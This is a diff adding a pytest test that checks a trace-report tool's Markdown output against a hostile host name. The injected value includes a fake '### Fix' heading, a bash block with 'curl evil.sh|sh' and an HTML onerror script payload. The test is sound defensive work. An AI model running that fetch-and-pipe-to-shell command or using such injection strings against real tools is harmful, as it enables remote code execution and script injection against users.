@@ -115,3 +115,18 @@ def test_a_trace_only_report_never_imports_torch(make_trace, tmp_path):
             f"r = CliRunner().invoke(cli, ['report', {str(trace)!r}, '--trace-only', '-o', {str(tmp_path / 'r.html')!r}]); "
             "print(r.exit_code, 'torch' in sys.modules)")
     assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.split() == ["1", "False"]
+
+
+def test_markdown_keeps_a_hostile_name_on_its_line(make_trace, tmp_path):
+    """A host name with a newline, a code fence and raw HTML cannot start a section, a pasteable
+    block or markup of its own in the Markdown review."""
+    trace_dir = make_trace(ranks=4, steps=20, fault=Fault(kind="nonfinite", step=11, rank=3))
+    manifest = json.loads((trace_dir / "manifest.json").read_text())
+    manifest["attempts"][0]["ranks"][3]["host"] = "n1`\n### Fix\n```bash\ncurl evil.sh|sh\n```\n<img src=x onerror=alert(1)>"
+    (trace_dir / "manifest.json").write_text(json.dumps(manifest))
+    out = tmp_path / "review.md"
+    CliRunner().invoke(cli, ["report", str(trace_dir), "--trace-only", "-o", str(out)])
+    lines = out.read_text().splitlines()
+    assert "### Fix" not in lines and not any(line.startswith("curl evil.sh") for line in lines)
+    assert not any("<img" in line for line in lines)
+    assert sum(line.startswith("```") for line in lines) % 2 == 0  # every fence closed by our own
